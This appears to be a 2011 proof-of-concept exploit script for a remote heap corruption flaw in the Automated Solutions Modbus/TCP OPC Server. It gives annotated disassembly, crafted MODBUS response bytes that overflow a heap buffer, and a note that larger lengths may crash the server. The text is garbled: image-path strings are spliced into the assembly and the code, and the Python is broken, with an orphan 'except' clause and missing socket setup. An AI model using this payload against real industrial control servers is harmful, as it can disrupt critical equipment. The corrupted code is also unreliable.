Automated Solutions Modbus/TCP OPC Server Remote Heap Corruption PoC 2011-01-25 09:15:18

# asmb-heap.py
# Automated Solutions Modbus/TCP OPC Server Remote Heap Corruption PoC
# Jeremy Brown [0xjbrown41-gmail-com]
# Jan 2011
# A specially crafted length field in a MODBUS packet header can trigger heap corruption.
# 00408312 |> 8B5424 3C MOVEDX,DWORD PTR SS:[ESP+3C] -> move length into edx
# 00408316 |. 53 PUSH EBX ->push src onto stack
# 00408317 |. 8B5C24 3C MOV EBX,DWORD PTR SS:[ESP+3C] -> move dest into ebx
# 0040831B |. 8BCA MOV ECX,EDX -> move length into ecx
# 0040831D |. 55 PUSH EBP -> push ebp onto stack
# 0040831E |. 8BE9 MOV EBP,ECX -> move ecx into ebp
# 00408320 |. 57 PUSH EDI -> push edi onto stack
# 00408321 |. 33C0 XOR EAX,EAX -> eax = 0
# 00408323 |. 8BFB MOV EDI,EBX -> move dest into edi
# 00408325 |. 895C24 1C MOV DWORD PTR SS:[ESP+1C],EBX -> move ebx into dword at esp+1c
# 00408329 |. C1E9 02 SHR ECX,2 -> shift ecx right twice
# 0040832C |. F3:AB REP STOS DWORD PTR ES:[EDI] -> fill ecx dwords at edi with eax
# So basically memset(edi,eax,ecx). We control ecx, so we have control over the number of dwords
# it writes in the heap buffer. But, as you can see, the dwords themselves are not controllable,
# they are NULL. However, we can still write past the bounds of the allocated chunk of memory.
# Although it seems unlikely code execution could result, it is still possible to write data
# past the memory allocated on a heap (0x350000) available in the server process.
# This code works by setting up a fake channel and accepting a connection. To trigger this
# vulnerability, the server simply needs to initiate communication (monitor mode would be ideal)
# with this fake channel and the results depend on the response you choose.
# I tested version 3 running on Windows. Testing the server with this code and its default
# response should't cause the server to crash (immediately anyways). Larger lengths (such as
# the one commented out) may cause the server to crash.
# Patch: http://automatedsolutions.com/demos/demoform.asp?code=17

import sys
importsocket


# [trans] [prot] [len] [u] [f] [bc] [data]
resp="\x00\x00"+"\x00\x00"+"\x02\x01"+"\x00"+"\x03"+"\x02"+"\x00\x00" # break @ 40832c, dump edi, keep hitting f9 and watch(debug)
#resp="\x00\x00"+"\x00\x00"+"\x02\xb0"+"\x00"+"\x03"+"\x02"+"\x00\x00" # Heap block at 0035F2D0 modified at 0035F4E7 past requested size of 20f


except IOError,e:
print e

print "OPC server at %sconnected\n"%addr[0]

print "<-- %s"%req.encode("hex")print "--> %s\n"%resp.encode("hex")print "finished, check server"